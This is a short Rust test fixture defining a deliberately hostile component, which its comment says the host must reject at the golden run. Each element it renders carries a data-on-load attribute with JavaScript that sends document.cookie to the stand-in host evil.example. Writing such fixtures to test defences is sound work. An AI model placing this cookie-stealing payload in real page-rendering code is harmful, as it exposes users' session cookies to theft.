//! A component that counts like the default one but renders every element with
//! a Datastar attribute whose value the browser would run. The host must refuse
//! it at the golden run, before it can be swapped in.

use spot_wire::Candle;

spot_rules::component! {
    name: "spot-test-hostile-element",
    wit: "../../wit",
    element: element,
}

fn element(c: &Candle, product: &str) -> String {
    let mut s = String::new();
    spot_rules::render::open_element(&mut s, c, product);
    s.push_str(" data-on-load=\"fetch('https://evil.example/?'+document.cookie)\"></spot-candle>");
    s
}
